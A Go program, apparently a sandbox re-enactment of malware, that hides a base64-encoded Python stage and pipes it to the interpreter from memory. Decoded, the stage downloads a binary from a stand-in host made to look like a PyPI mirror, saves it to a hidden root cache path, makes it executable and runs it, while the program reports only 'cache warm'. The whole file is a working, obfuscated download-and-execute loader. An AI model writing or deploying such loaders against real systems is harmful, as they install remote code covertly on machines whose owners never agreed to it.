// wheel-warm: harmless re-enactment of a loader that hands a Python stage to the interpreter on
// stdin. The stage is kept base64-encoded, decoded in memory and written to `python3 -`; it
// downloads a stand-in ELF from pypi-mirror.cdn-files.test (a name the sandbox answers) and runs
// it once.
package main

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"os"
	"os/exec"
)

const stage = "aW1wb3J0IG9zLCBzdWJwcm9jZXNzLCB1cmxsaWIucmVxdWVzdApkID0gdXJsbGliLnJlcXVlc3Qu" +
	"dXJsb3BlbigiaHR0cDovL3B5cGktbWlycm9yLmNkbi1maWxlcy50ZXN0L3NpbXBsZS9zZWxlY3Rv" +
	"ci94ODZfNjQiLCB0aW1lb3V0PTgpLnJlYWQoKQpvcy5tYWtlZGlycygiL3Jvb3QvLmNhY2hlIiwg" +
	"ZXhpc3Rfb2s9VHJ1ZSkKcCA9ICIvcm9vdC8uY2FjaGUvLnBpcC1zZWwiCndpdGggb3BlbihwLCAi" +
	"d2IiKSBhcyBmOgogICAgZi53cml0ZShkKQpvcy5jaG1vZChwLCAwbzc1NSkKcHJpbnQoInN0YWdl" +
	"OiIsIHN1YnByb2Nlc3MucnVuKFtwXSkucmV0dXJuY29kZSkK"

func main() {
	code, err := base64.StdEncoding.DecodeString(stage)
	if err != nil {
		fmt.Println("wheel-warm:", err)
		return
	}
	cmd := exec.Command("python3", "-")
	cmd.Stdin = bytes.NewReader(code)
	cmd.Stdout = os.Stdout
	cmd.Stderr = os.Stderr
	err = cmd.Run()
	fmt.Println("wheel-warm: cache warm", err)
}
